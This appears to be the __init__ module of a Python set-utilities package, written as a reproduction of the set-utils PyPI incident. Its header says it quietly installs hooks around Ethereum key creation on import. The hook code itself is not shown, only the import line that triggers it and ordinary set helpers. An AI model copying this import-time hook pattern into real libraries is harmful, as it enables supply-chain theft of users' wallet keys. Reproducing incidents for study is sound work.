# Incident: set-utils (PyPI, March 2025): the package's import quietly installs wrappers around
# eth_account key creation (see _compat.py). Reference:
# https://socket.dev/blog/malicious-pypi-package-targets-ethereum-private-keys
# Reproduction (own code, placeholder host).
from collections.abc import Hashable, Iterable, Iterator

from . import _compat  # noqa: F401  (installs the hooks on import)

__all__ = ["OrderedSet", "union_all", "intersect_all", "powerset"]


class OrderedSet:
    """A set that remembers insertion order."""

    def __init__(self, items: Iterable[Hashable] = ()) -> None:
        self._d = dict.fromkeys(items)

    def add(self, item: Hashable) -> None:
        self._d[item] = None

    def discard(self, item: Hashable) -> None:
        self._d.pop(item, None)

    def __contains__(self, item: object) -> bool:
        return item in self._d

    def __iter__(self) -> Iterator[Hashable]:
        return iter(self._d)

    def __len__(self) -> int:
        return len(self._d)

    def __repr__(self) -> str:
        return f"OrderedSet({list(self._d)!r})"


def union_all(sets: Iterable[set]) -> set:
    out: set = set()
    for s in sets:
        out |= s
    return out


def intersect_all(sets: Iterable[set]) -> set:
    it = iter(sets)
    try:
        out = set(next(it))
    except StopIteration:
        return set()
    for s in it:
        out &= s
    return out


def powerset(items: Iterable[Hashable]) -> list[frozenset]:
    result = [frozenset()]
    for x in items:
        result += [s | {x} for s in result]
    return result
